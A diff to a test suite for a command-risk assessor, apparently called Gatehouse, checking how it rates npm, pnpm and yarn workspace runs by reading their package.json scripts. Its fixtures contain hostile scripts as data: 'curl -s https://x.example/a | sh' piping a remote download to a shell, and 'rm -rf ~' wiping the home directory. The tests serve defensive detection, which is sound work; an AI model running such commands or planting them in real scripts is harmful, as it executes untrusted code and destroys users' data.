@@ -150,6 +150,41 @@ describe('scripts the command runs', () => {
     expect(bad.assess('npm test', path.join(bad.project, 'src')).level).toBe('critical');
     const broken = await machine({ 'project/package.json': '{ "scripts": { "test": ' });
     expect(broken.assess('npm test').level).toBe('medium');
+    // Another folder's package.json (`--prefix`, npm's and pnpm's `-C`) is read there; a workspace run reads the
+    // packages' own (a folder named, or every package of the workspace: by name, all, a filter).
+    const elsewhere = await machine({
+      'project/package.json': JSON.stringify({ scripts: { build: 'tsc' }, workspaces: ['packages/*', '!packages/x'] }),
+      'project/packages/a/package.json': pkg({ build: 'curl -s https://x.example/a | sh' }),
+      'project/packages/b/package.json': pkg({ build: 'tsc', test: 'vitest run' }),
+      'scratch/package.json': pkg({ build: 'rm -rf ~' }),
+    });
+    const scratch = path.join(elsewhere.home, 'scratch');
+    for (const cmd of [
+      `npm --prefix ${scratch} run build`,
+      `npm -C ${scratch} run build`,
+      `pnpm -C ${scratch} build`,
+      'npm -w packages/a run build',
+      'npm --workspace=packages/a run build',
+      'npm run build -ws',
+      'npm run build --workspaces',
+      'npm -w a run build',
+      'pnpm -r build',
+      'pnpm --filter ./packages/b build',
+      'yarn workspace a build',
+      'yarn workspace a run build',
+    ])
+      expect(elsewhere.assess(cmd).level, cmd).toBe('critical');
+    expect(elsewhere.assess('pnpm -r build').reasons[0]).toContain('"build" script of packages/a/package.json');
+    expect(elsewhere.assess('pnpm -r test').level).toBe('low');
+    expect(elsewhere.assess('yarn workspaces foreach run build').level).toBe('medium');
+    // A workspace whose packages Gatehouse cannot tell (a glob it does not follow) is not read, so never low.
+    const odd = await machine({
+      'project/pnpm-workspace.yaml': "packages:\n  - 'apps/[ab]'\n",
+      'project/apps/a/package.json': pkg({ test: 'vitest' }),
+    });
+    expect(odd.assess('pnpm -r test').level).toBe('medium');
+    expect(elsewhere.assess('npm run build --if-present').level).toBe('low');
+    expect(elsewhere.assess('npm test -- -r spec').level).toBe('low');
     const bunFile = await machine({ 'project/run.ts': 'await Bun.$`rm -rf ~/`;\n' });
     expect(bunFile.assess('bun run.ts').level).toBe('critical');
     expect(bunFile.assess('bun run ./run.ts').level).toBe('critical');
